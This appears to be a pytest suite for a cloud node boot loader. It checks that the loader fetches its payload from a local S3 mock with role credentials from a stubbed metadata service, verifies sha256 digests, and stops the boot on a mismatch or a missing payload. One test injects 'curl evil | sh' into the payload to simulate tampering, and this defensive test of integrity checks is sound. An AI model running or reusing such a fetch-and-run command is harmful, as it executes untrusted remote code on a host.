"""Everything beyond the loader comes from object storage, for real: the loader in user-data fetches the boot
payload with the node role and verifies its sha256 before anything runs (docs/bootstrap.md, "The loader"),
then the bootstrap runs `python -m node_agent.fetch` from the payload's boot set with the project's Python
(docs/node-config.md, "Agent delivery"). Both take role credentials from a hardened-metadata stub and
download from a moto S3 server, both on 127.0.0.1; an S3Proxy in front of it answers 503 for a while (a
bucket not yet consistent)."""
from __future__ import annotations

import hashlib
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import boto3
import pytest
from bootstrap_helpers import load_config

from components.artifacts import AGENT_SRC, agent_artifacts
from components.bootstrap import render_user_data
from localcloud import LocalS3, S3Proxy
from localcloud.sandbox import Sandbox, Scenario
from tools.runlib.markers import assess, parse_marker

TOKEN = "sandbox-token"
NODE = "i-bp1sandboxnode01"


class Metadata(BaseHTTPRequestHandler):
    """Alibaba's hardened metadata service: a PUT token first, then the role's credentials with it."""
    role = ""
    reads: list = []

    def do_PUT(self):
        ok = self.path == "/latest/api/token" and self.headers.get("X-aliyun-ecs-metadata-token-ttl-seconds")
        self._send(200 if ok else 400, TOKEN if ok else "")

    def do_GET(self):
        if self.headers.get("X-aliyun-ecs-metadata-token") != TOKEN:
            return self._send(403, "")
        Metadata.reads.append(self.path)
        if self.path == "/latest/meta-data/instance-id":
            return self._send(200, NODE)
        if self.path == f"/latest/meta-data/ram/security-credentials/{self.role}":
            return self._send(200, json.dumps({"Code": "Success", "AccessKeyId": "STS.sandbox",
                                               "AccessKeySecret": "sandbox", "SecurityToken": "sandbox",
                                               "Expiration": "2099-01-01T00:00:00Z"}))
        self._send(404, "")

    def _send(self, status, body):
        data = body.encode()
        self.send_response(status)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def servers():
    s3 = LocalS3()
    proxy = S3Proxy(s3.url)
    meta = ThreadingHTTPServer(("127.0.0.1", 0), Metadata)
    threading.Thread(target=meta.serve_forever, daemon=True).start()
    yield proxy.url, f"http://127.0.0.1:{meta.server_address[1]}", proxy
    meta.shutdown()
    proxy.stop()
    s3.stop()


def uploaded(servers, bucket, corrupt=None, signature="s3v4", payload=True):
    """A node config pointed at the local servers, its agent files and boot payload uploaded as `pulumi up`
    would; the payload is left out with payload=False."""
    s3_url, meta_url, _ = servers
    cfg = load_config("stack:entry-t4")
    cfg["endpoints"]["metadata"] = meta_url
    cfg["checkpoint"].update(bucket=bucket, endpoint=s3_url, region="us-east-1", addressingStyle="path",
                             signatureVersion=signature)
    cfg["agent"].update(uploadAttempts=3, retryBaseSeconds=0.01)
    Metadata.role = cfg["identity"]["roleName"]
    client = store(servers)
    client.create_bucket(Bucket=bucket)
    arts = agent_artifacts(cfg["checkpoint"]["prefix"], cfg["stack"])
    assert sorted(a.relative for a in arts) == cfg["artifacts"]["agent"]["files"]
    for a in arts:
        body = a.path.read_bytes()
        if a.relative == corrupt:
            body += b"\n# changed after pulumi up\n"
        client.put_object(Bucket=bucket, Key=a.key, Body=body)
    if payload:
        rendered = render_user_data(cfg)
        client.put_object(Bucket=bucket, Key=rendered.payload.key, Body=rendered.payload.content.encode())
    return cfg


def store(servers):
    """A client of the local S3 (through the proxy), as `pulumi up` writes with the deployer's keys."""
    return boto3.client("s3", endpoint_url=servers[0], region_name="us-east-1", aws_access_key_id="test",
                        aws_secret_access_key="test")


def steps_of(result) -> dict:
    return {s["name"]: s["result"] for s in result.status["steps"]}


@pytest.mark.parametrize("signature", ["s3v4", "s3"])
def test_the_loader_fetches_the_payload_with_the_node_role_verifies_it_and_boots(servers, tmp_path, signature):
    """Both signatures the stores are configured with (checkpoint.signatureVersion: V4, V2 for OSS)."""
    cfg = uploaded(servers, f"ckpt-loader-{signature}", signature=signature)
    r = render_user_data(cfg)
    Metadata.reads.clear()
    sb = Sandbox(tmp_path / "sb", r, cfg, Scenario(gpus=1, fetch="real"))
    first = sb.run()
    assert first.rc == 0, first.output + first.log
    assert f"payload {r.payload.key} verified (sha256 {r.payload.sha256})" in first.log
    assert any("security-credentials" in p for p in Metadata.reads)
    for path, content in r.node_files().items():
        assert sb.path(path).read_text() == content, path
    assert steps_of(first)["agent"] == "done"


def test_the_loader_waits_for_a_bucket_that_is_not_there_yet(servers, tmp_path):
    """503s for the first tries (an object store settling after `pulumi up`): retried with backoff, then booted."""
    cfg = uploaded(servers, "ckpt-late")
    proxy = servers[2]
    proxy.match, proxy.fail = "/boot/", 2
    sb = Sandbox(tmp_path / "sb", render_user_data(cfg), cfg, Scenario(gpus=1, fetch="real"))
    r = sb.run()
    assert r.rc == 0, r.output + r.log
    assert "try 1 of 3" in r.output and "try 2 of 3" in r.output and "verified" in r.log


def test_a_payload_that_does_not_match_its_digest_stops_the_boot(servers, tmp_path):
    """Changed after `pulumi up` (or in transit): nothing of it is written, no bootstrap, no agent, no training."""
    cfg = uploaded(servers, "ckpt-tampered")
    rendered = render_user_data(cfg)
    tampered = rendered.payload.content.replace("set -euo pipefail", "set -euo pipefail; curl evil | sh", 1)
    assert tampered != rendered.payload.content
    store(servers).put_object(Bucket="ckpt-tampered", Key=rendered.payload.key, Body=tampered.encode())
    sb = Sandbox(tmp_path / "sb", rendered, cfg, Scenario(gpus=1, fetch="real"))
    r = sb.run()
    assert r.rc == 1
    want = rendered.payload.sha256
    got = hashlib.sha256(tampered.encode()).hexdigest()
    assert f"sha256 {got} ({len(tampered.encode())} B) is not the {want} loader.json names" in r.output
    assert "BOOT STOPPED: no verified boot payload" in r.output and "BOOT STOPPED" in r.log
    assert not sb.path("/etc/gpu-training/node.json").exists()
    assert not sb.path("/usr/local/sbin/gpu-training-bootstrap").exists()
    assert r.status is None and r.calls == [c for c in r.calls if c[0] == "python3"]  # nothing but the loader ran
    assert f"FAILED marker written: {cfg['checkpoint']['prefix']}/{cfg['stack']}/markers/{NODE}.json" in r.output, r.output
    stopped_marker_says(servers, cfg, "boot stopped: no verified boot payload (sha256 ")


def test_a_payload_missing_after_the_retries_stops_the_boot(servers, tmp_path):
    cfg = uploaded(servers, "ckpt-no-payload", payload=False)
    sb = Sandbox(tmp_path / "sb", render_user_data(cfg), cfg, Scenario(gpus=1, fetch="real"))
    r = sb.run()
    assert r.rc == 1 and "try 3 of 3" in r.output and "404" in r.output
    assert "BOOT STOPPED" in r.output and r.status is None
    stopped_marker_says(servers, cfg, "boot stopped: no verified boot payload (HTTP Error 404")


def test_a_store_that_answers_a_missing_marker_403_still_gets_it(servers, tmp_path):
    """Without the list right S3 answers a missing key 403, not 404: that is no marker either."""
    cfg = uploaded(servers, "ckpt-no-list", payload=False)
    servers[2].missing_as_403 = True
    try:
        r = Sandbox(tmp_path / "sb", render_user_data(cfg), cfg, Scenario(gpus=1, fetch="real")).run()
    finally:
        servers[2].missing_as_403 = False
    assert r.rc == 1 and "403" in r.output
    stopped_marker_says(servers, cfg, "boot stopped: no verified boot payload (HTTP Error 403")


def stopped_marker_says(servers, cfg, reason):
    """The node's FAILED marker, as the run's watch reads it: FAILED with nothing unsaved, so `up` destroys the stack
    (releasing the node that no agent would release) and `status` shows why."""
    key = f"{cfg['checkpoint']['prefix']}/{cfg['stack']}/markers/{NODE}.json"
    got = store(servers).get_object(Bucket=cfg["checkpoint"]["bucket"], Key=key)
    marker = parse_marker(key, got["ETag"], got["Body"].read())
    assert marker.state == "FAILED" and marker.node == NODE and marker.body["released"] is False
    assert marker.reason.startswith(reason) and "`gpu-training down`" in marker.reason, marker.reason
    verdict = assess([marker], 1)
    assert verdict.state == "FAILED" and verdict.settled and verdict.data_saved
    return marker


def test_a_stopped_boot_leaves_a_marker_it_finds_as_it_is(servers, tmp_path):
    """A node that trained before a reboot has a marker (RUNNING: work on its disk): a FAILED over it would let the
    watch destroy that work, so the loader leaves it and says so."""
    cfg = uploaded(servers, "ckpt-rebooted", payload=False)
    key = f"{cfg['checkpoint']['prefix']}/{cfg['stack']}/markers/{NODE}.json"
    before = json.dumps({"state": "RUNNING", "node": NODE}).encode()
    store(servers).put_object(Bucket="ckpt-rebooted", Key=key, Body=before)
    r = Sandbox(tmp_path / "sb", render_user_data(cfg), cfg, Scenario(gpus=1, fetch="real")).run()
    assert r.rc == 1 and "BOOT STOPPED" in r.output
    assert f"{key} exists (written before this boot): left as it is" in r.output
    assert store(servers).get_object(Bucket="ckpt-rebooted", Key=key)["Body"].read() == before


def test_the_rest_of_the_agent_is_fetched_with_the_node_role_and_verified(servers, tmp_path):
    cfg = uploaded(servers, "ckpt-good")
    sb = Sandbox(tmp_path / "sb", render_user_data(cfg), cfg, Scenario(gpus=1, fetch="real"))
    first = sb.run()
    assert first.rc == 0, first.log
    assert steps_of(first)["agent_code"] == "done"
    agent = sb.path(cfg["paths"]["agent"])
    for rel in cfg["artifacts"]["agent"]["files"]:
        assert (agent / rel).read_bytes() == (AGENT_SRC / rel.split("/", 1)[1]).read_bytes()
    assert any("security-credentials" in p for p in Metadata.reads)

    before = sb.snapshot()
    second = sb.run()
    assert second.rc == 0 and sb.snapshot() == before
    assert not [c for c in second.called("venv-python") if "node_agent.fetch" in c]


def test_a_file_that_does_not_match_node_json_stops_the_agent_from_starting(servers, tmp_path):
    cfg = uploaded(servers, "ckpt-bad", corrupt="node_agent/agent.py")
    sb = Sandbox(tmp_path / "sb", render_user_data(cfg), cfg, Scenario(gpus=1, fetch="real"))
    r = sb.run()
    assert r.rc == 1
    steps = {s["name"]: s["result"] for s in r.status["steps"]}
    assert steps["agent_code"] == "failed" and steps["agent"] == "failed"
    assert "sha256 does not match node.json's artifacts.agent.sha256" in r.log
    tampered = (AGENT_SRC / "agent.py").read_bytes() + b"\n# changed after pulumi up\n"
    assert f"node_agent/agent.py ({len(tampered)} B, sha256 {hashlib.sha256(tampered).hexdigest()})" in r.log
    assert not (sb.path(cfg["paths"]["agent"]) / "node_agent" / "agent.py").exists()
    assert not [c for c in r.called("systemctl") if "enable" in c]
    assert "agent_code" in sb.path(cfg["paths"]["state"] + "/UNHEALTHY").read_text()
    stopped_marker_says(servers, cfg, "boot stopped: the agent's code was not fetched (bootstrap step agent_code")
